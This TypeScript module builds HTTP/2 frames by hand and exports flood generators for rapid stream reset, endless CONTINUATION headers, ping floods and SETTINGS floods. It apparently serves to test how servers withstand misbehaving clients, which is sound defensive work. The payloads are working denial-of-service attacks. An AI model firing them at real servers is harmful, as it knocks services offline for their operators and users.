/** HTTP/2 frames made by hand (RFC 9113), for who does not keep to its manners. */

const types = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
const endHeaders = 0x4;

/** What a client says first, and its settings: none. */
export const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(types.settings, 0, 0, Buffer.alloc(0)),
]);

/** [length: 3] [type: 1] [flags: 1] [stream: 4] [payload] */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const bytes = Buffer.alloc(9 + payload.length);
  bytes.writeUIntBE(payload.length, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(stream, 5);
  payload.copy(bytes, 9);
  return bytes;
}

/** `CONNECT web`: literals without indexing, named by the static table (RFC 7541, appendix A: 2 and 1). */
const connectWeb = Buffer.concat([
  Buffer.from([0x02, 7]),
  Buffer.from('CONNECT'),
  Buffer.from([0x01, 3]),
  Buffer.from('web'),
]);
/** A field of 16,000 bytes, with a new name each. */
const longField = Buffer.concat([
  Buffer.from([0x00, 1]),
  Buffer.from('a'),
  // 16,000 as an integer with a prefix of seven bits (RFC 7541, section 5.1): 127 + 15,873.
  Buffer.from([0x7f, 0x81, 0x7c]),
  Buffer.alloc(16_000, 'b'),
]);

/** Piece `n` of an attack, about 64 KiB: each is sent when the one before was taken. */
export type Flood = (n: number) => Buffer;

const times = (count: number, make: (k: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, k) => make(k)));

export const floods: { readonly [name: string]: Flood } = {
  'channels that are asked for and reset at once': (n) =>
    times(1_000, (k) => {
      const stream = 2 * (n * 1_000 + k) + 1;
      const cancel = Buffer.from([0, 0, 0, 8]);
      return Buffer.concat([
        frame(types.headers, endHeaders, stream, connectWeb),
        frame(types.reset, 0, stream, cancel),
      ]);
    }),
  'headers that go on without end': (n) =>
    Buffer.concat([
      ...(n === 0 ? [frame(types.headers, 0, 1, connectWeb)] : []),
      times(4, () => frame(types.continuation, 0, 1, longField)),
    ]),
  'headers that go on without end and without a byte': (n) =>
    Buffer.concat([
      ...(n === 0 ? [frame(types.headers, 0, 1, connectWeb)] : []),
      times(7_000, () => frame(types.continuation, 0, 1, Buffer.alloc(0))),
    ]),
  pings: () => times(3_800, () => frame(types.ping, 0, 0, Buffer.alloc(8))),
  settings: () => times(7_000, () => frame(types.settings, 0, 0, Buffer.alloc(0))),
};
